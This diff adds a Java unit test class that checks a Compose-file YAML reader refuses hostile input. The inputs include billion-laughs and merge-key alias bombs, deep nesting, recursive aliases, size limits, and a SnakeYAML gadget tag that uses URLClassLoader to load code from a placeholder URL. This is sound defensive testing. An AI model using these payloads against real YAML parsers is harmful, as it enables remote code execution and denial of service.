@@ -1,0 +1,105 @@
+package dev.topology.formats.compose;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import org.junit.jupiter.api.Test;
+
+/** Documents made to hurt a YAML reader are refused with the library's own exception. */
+class HostileComposeTest {
+  private static final ComposeReader READER = ComposeReader.defaults();
+
+  @Test
+  void read_billionLaughs_refusedBeforeExpanding() {
+    StringBuilder yaml = new StringBuilder("x-l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol,"
+        + " lol]\n");
+    for (int level = 1; level <= 9; level++) {
+      yaml.append("x-l").append(level).append(": &l").append(level).append(" [");
+      for (int i = 0; i < 9; i++) {
+        yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
+      }
+      yaml.append("]\n");
+    }
+    yaml.append("services: {web: {labels: {a: b}}}\n");
+    assertThatThrownBy(() -> READER.read(yaml.toString()))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessage("The file's aliases and merge keys expand it to more than 5000000"
+            + " values; it is refused as a \"billion laughs\" document.");
+  }
+
+  @Test
+  void read_mergeKeyLaughs_refused() {
+    // Each level merges the previous one twice under new keys: the expansion doubles per level.
+    StringBuilder yaml = new StringBuilder("x-m0: &m0 {a: 1}\n");
+    for (int level = 1; level <= 40; level++) {
+      yaml.append("x-m").append(level).append(": &m").append(level).append(" {l: *m")
+          .append(level - 1).append(", r: *m").append(level - 1).append("}\n");
+    }
+    yaml.append("services: {}\n");
+    assertThatThrownBy(() -> READER.read(yaml.toString()))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessageContaining("billion laughs");
+  }
+
+  @Test
+  void read_globalTagOfAJavaClass_refusedNotInstantiated() {
+    assertThatThrownBy(() -> READER.read("services:\n  web: !!javax.script.ScriptEngineManager"
+        + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.com\"]]]]\n"))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessageStartingWith("The file is not valid YAML: ");
+  }
+
+  @Test
+  void read_customTag_refusedWithPlace() {
+    assertThatThrownBy(() -> READER.read("services:\n  web:\n    image: !reset null\n"))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessage("services.web.image: The tag !reset is not allowed; a Compose file holds"
+            + " plain mappings, lists and text.");
+  }
+
+  @Test
+  void read_deepNesting_refused() {
+    String yaml = "services: " + "[".repeat(10_000) + "]".repeat(10_000);
+    assertThatThrownBy(() -> READER.read(yaml))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessageStartingWith("The file is not valid YAML: ");
+  }
+
+  @Test
+  void read_recursiveAlias_refused() {
+    assertThatThrownBy(() -> READER.read("x-a: &a [*a]\nservices: {}\n"))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessage("x-a[0]: An alias refers to a value that contains it; recursive values are"
+            + " not allowed.");
+  }
+
+  @Test
+  void read_tooLong_refusedBeforeParsing() {
+    String yaml = "services: {}\n#" + "x".repeat(ComposeYaml.MAX_LENGTH);
+    assertThatThrownBy(() -> READER.read(yaml))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessage("The file has 8388622 characters, more than the limit of 8388608 (8 MiB).");
+  }
+
+  @Test
+  void read_longKey_refused() {
+    String yaml = "services:\n  ? " + "k".repeat(2000) + "\n  : {}\n";
+    assertThatThrownBy(() -> READER.read(yaml))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessage("services: A key has 2000 characters, more than the limit of 1024.");
+  }
+
+  @Test
+  void read_secondDocument_refused() {
+    assertThatThrownBy(() -> READER.read("services: {}\n---\nservices: {}\n"))
+        .isInstanceOf(ComposeFileException.class)
+        .hasMessageStartingWith("The file is not valid YAML: expected a single document");
+  }
+
+  @Test
+  void read_nullText_refused() {
+    assertThatThrownBy(() -> READER.read(null)).isInstanceOf(ComposeFileException.class)
+        .hasMessage("A Compose file is read from text, not null.");
+    assertThat(READER.read("services: {}").topology().size()).isZero();
+  }
+}
